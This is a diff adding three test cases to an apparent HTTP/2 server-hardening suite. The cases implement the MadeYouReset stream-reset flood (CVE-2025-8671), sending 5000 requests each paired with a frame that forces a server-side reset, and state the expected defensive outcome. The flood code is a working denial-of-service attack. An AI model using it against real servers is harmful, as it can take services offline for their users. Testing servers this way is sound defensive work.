@@ -1548,6 +1548,37 @@ def d_rst_provoked(c):
     return flood(c, frames, ENHANCE_YOUR_CALM, PROTOCOL_ERROR)
 
 
+def made_you_reset(c, extra):
+    """Requests each followed by a frame that makes the server reset its stream (MadeYouReset,
+    CVE-2025-8671: the resets are the server's, so a client's reset budget does not see them,
+    while each request still costs its handler's work)."""
+    b = block(c, request())
+    frames = []
+    for i in range(5000):
+        sid = 1 + 2 * i
+        frames += [raw_frame(HEADERS, END_STREAM | END_HEADERS, sid, b), extra(sid)]
+    return flood(c, frames, *range(1, 14))
+
+
+@case("defence/2.1 streams reset by the server for a window overflow (MadeYouReset)",
+      "GOAWAY (an error) or close; others served")
+def d_myr_window(c):
+    return made_you_reset(c, lambda sid: WindowUpdateFrame(
+        sid, window_increment=2 ** 31 - 1).serialize())
+
+
+@case("defence/2.2 streams reset by the server for DATA after END_STREAM (MadeYouReset)",
+      "GOAWAY (an error) or close; others served")
+def d_myr_data(c):
+    return made_you_reset(c, lambda sid: data(sid))
+
+
+@case("defence/2.3 streams reset by the server for a PRIORITY of 4 bytes (MadeYouReset)",
+      "GOAWAY (an error) or close; others served")
+def d_myr_priority(c):
+    return made_you_reset(c, lambda sid: raw_frame(PRIORITY, 0, sid, b"\0\0\0\0"))
+
+
 @case("defence/3 WINDOW_UPDATE flood", "others served; the connection answers PING or is ended")
 def d_wu_flood(c):
     c.s.settimeout(5)
